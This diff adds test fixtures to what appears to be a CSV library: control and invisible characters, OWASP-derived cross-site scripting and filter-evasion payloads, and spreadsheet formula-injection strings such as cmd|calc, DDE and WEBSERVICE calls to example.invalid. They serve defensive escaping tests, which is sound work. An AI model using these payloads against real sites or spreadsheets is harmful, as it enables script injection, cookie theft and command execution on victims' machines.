@@ -73,3 +73,105 @@ export const rfcRows: readonly (readonly (readonly string[])[])[] = [
   ],
   [['aaa', 'b"bb', 'ccc']],
 ];
+
+/** What steers a screen or cannot be seen; the same list stands in docs/csv.md. */
+export const signs: readonly string[] = [
+  ...['\0', '\u0007', '\b', '\t', '\n', '\v', '\f', '\r', '\u001b', '\u007f', '\u0085', '\u009b', '\u009d'],
+  ...['\u00ad', '\u200b', '\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202e', '\u2066', '\u2069'],
+  ...['\u2060', '\ufeff', '\ud800', '\u{e0041}'],
+];
+
+/**
+ * Markup for pages and pictures. The first thirteen after OWASP/CheatSheetSeries@6b8819da, Cross_Site_Scripting_Prevention_Cheat_Sheet.md
+ * and XSS_Filter_Evasion_Cheat_Sheet.md (CC-BY-SA-4.0), as they were noted when those pages were read.
+ */
+export const markup: readonly string[] = [
+  '<script>alert(1)</script>',
+  '"><svg/onload=alert(1)>',
+  "' onmouseover='alert(1)",
+  '</title><script>alert(1)</script>',
+  '</text></svg><script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  'javascript:alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '\u0000<b>',
+  '\ud800 lone surrogate',
+  'a\u202egnp.exe',
+  '&#0000060script>',
+];
+
+/** The headings of the filter evasion sheet, one form of each, from memory: what a filter may overlook and a writer that escapes may not. */
+export const evasions: readonly string[] = [
+  '\';alert(String.fromCharCode(88,83,83))//";alert(1)//--></SCRIPT>">\'><SCRIPT>alert(1)</SCRIPT>',
+  "'';!--\"<XSS>=&{()}",
+  '<SCRIPT SRC=http://example.invalid/xss.js></SCRIPT>',
+  '<IMG SRC="javascript:alert(1);">',
+  '<IMG SRC=JaVaScRiPt:alert(1)>',
+  '<IMG SRC=`javascript:alert("1")`>',
+  '<a onmouseover="alert(document.cookie)">x</a>',
+  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+  '<IMG SRC=# onmouseover="alert(1)">',
+  '<IMG SRC=/ onerror="alert(1)"></img>',
+  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
+  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>',
+  '<IMG SRC="jav&#x09;ascript:alert(1);">',
+  '<SCRIPT/XSS SRC="http://example.invalid/xss.js"></SCRIPT>',
+  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
+  '<<SCRIPT>alert(1);//<</SCRIPT>',
+  '<SCRIPT SRC=//example.invalid/.j>',
+  '<IMG SRC="javascript:alert(1)"',
+  '<iframe src=http://example.invalid/x.html <',
+  '\\";alert(1);//',
+  '</TITLE><SCRIPT>alert(1);</SCRIPT>',
+  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
+  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>',
+  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
+  "<STYLE>@import'http://example.invalid/x.css';</STYLE>",
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
+  '<DIV STYLE="background-image: url(javascript:alert(1))">',
+  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
+  '<BASE HREF="javascript:alert(1);//">',
+  '<OBJECT TYPE="text/x-scriptlet" DATA="http://example.invalid/x.html"></OBJECT>',
+  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml"></EMBED>',
+  '<? echo(1); ?>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
+  '<math><mtext></mtext><style><img src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<form><button formaction=javascript:alert(1)>x',
+  '<template><script>alert(1)</script></template>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<!DOCTYPE x [<!ENTITY y SYSTEM "http://example.invalid/">]>&y;',
+  '[x](javascript:alert(1))',
+  '![x](http://example.invalid/x.png)',
+  '<http://example.invalid/>',
+  '[x]: javascript:alert(1)',
+];
+
+/** Further starts of formulas, from memory: spreadsheets of several makers, blanks and quotes before the sign, numbers in front. */
+export const moreFormulas: readonly string[] = [
+  '+1+1',
+  '-1+1',
+  '@A1',
+  '=1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '"=1+1"',
+  ',=1+1',
+  ';=1+1',
+  '=cmd|\' /C calc\'!"A1"',
+  "+cmd|' /C calc'!A0",
+  "@cmd|' /C calc'!A0",
+  '=WEBSERVICE("http://example.invalid/")',
+  '=IMPORTDATA("http://example.invalid/")',
+  '=IMAGE("http://example.invalid/x.png")',
+  '=FILTERXML("<x/>","//x")',
+  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+  '=DDE("cmd";"/C calc";"x")',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff20A1',
+];
